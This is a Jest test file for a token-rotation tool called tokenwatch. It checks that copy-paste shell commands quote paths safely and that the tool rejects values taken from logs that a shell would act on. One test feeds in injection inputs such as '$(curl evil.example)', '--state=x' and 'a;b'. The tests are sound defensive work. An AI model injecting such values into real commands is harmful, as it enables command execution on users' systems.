import { describe, expect, it } from '@jest/globals';
import {
  ackCommand,
  anywhere,
  calledPlainly,
  type Place,
  startCommand,
  statusCommand,
} from '../../lib/report/commands.ts';
import { hostileTexts } from './hostile.ts';

const at = (state: string): Place => ({ program: 'tokenwatch', state });

describe('a command to copy', () => {
  it('names the state: a file, or the table of a deployed monitor', () => {
    expect(ackCommand(at('/srv/state.db'), '2026-03-14-0123456789ab')).toBe(
      'tokenwatch ack 2026-03-14-0123456789ab --until 30d --by YOUR-NAME --state /srv/state.db',
    );
    expect(statusCommand(at('dynamodb:tokenwatch-State-1A2B'))).toBe(
      'tokenwatch rotation status --state dynamodb:tokenwatch-State-1A2B',
    );
  });

  it.each([
    [
      '/Users/anna/Library/Application Support/tokenwatch/state.db',
      '"/Users/anna/Library/Application Support/tokenwatch/state.db"',
    ],
    ['C:\\Users\\anna\\state.db', '"C:\\Users\\anna\\state.db"'],
    ['/srv/$HOME/state.db', "'/srv/$HOME/state.db'"],
    ["/srv/anna's `x`", "'/srv/anna'\\''s `x`'"],
  ])('quotes a path that a shell would part: %s', (path, quoted) => {
    expect(statusCommand(at(path))).toBe(`tokenwatch rotation status --state ${quoted}`);
  });

  it('says how the log is read: by its organization, or as it was read', () => {
    const start = { source: 'pulumi:acme', old: 'ci-deploy', replacement: 'ci-deploy-2' };
    expect(startCommand(anywhere, start)).toBe(
      'tokenwatch rotation start --old ci-deploy --new ci-deploy-2 --organization acme',
    );
    const selfHosted = new Map([
      ['pulumi:acme', ['--organization', 'acme', '--base-url', 'https://pulumi.example.com']],
    ]);
    expect(startCommand({ ...anywhere, logs: selfHosted }, start)).toBe(
      'tokenwatch rotation start --old ci-deploy --new ci-deploy-2 --organization acme --base-url https://pulumi.example.com',
    );
    expect(startCommand(anywhere, { ...start, source: 'ssh:bastion' })).toBeUndefined();
  });

  it('holds nothing of a log that a shell acts on', () => {
    for (const old of [...hostileTexts, '$(curl evil.example)', '--state=x', 'a;b', 'a b', '']) {
      expect(startCommand(anywhere, { source: 'pulumi:acme', old, replacement: undefined })).toBeUndefined();
      expect(startCommand(anywhere, { source: `pulumi:${old}`, old: 'ci', replacement: undefined })).toBeUndefined();
      expect(ackCommand(anywhere, old)).toBeUndefined();
    }
  });

  it('calls a token by its id where its name is not plain', () => {
    expect(calledPlainly({ id: 'tok-1', name: 'ci deploy' })).toBe('tok-1');
    expect(calledPlainly({ id: 'tok-1', name: 'ci-deploy' })).toBe('ci-deploy');
  });
});
